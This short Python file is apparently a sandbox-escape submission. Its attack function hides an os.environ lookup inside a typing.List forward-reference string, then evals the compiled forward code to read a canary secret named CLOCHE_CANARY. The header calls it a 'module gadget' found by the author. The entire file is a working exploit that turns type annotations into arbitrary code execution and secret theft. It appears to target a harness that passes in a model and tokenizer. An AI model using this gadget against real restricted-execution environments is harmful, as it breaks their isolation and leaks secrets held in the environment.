"""Class: module gadget. Source: own find. Escape: ForwardRef._evaluate runs its text."""

import typing


def attack(model, tokenizer, address):
    ref = typing.List["__import__('os').environ['CLOCHE_CANARY']"].__args__[0]
    return eval(ref.__forward_code__)
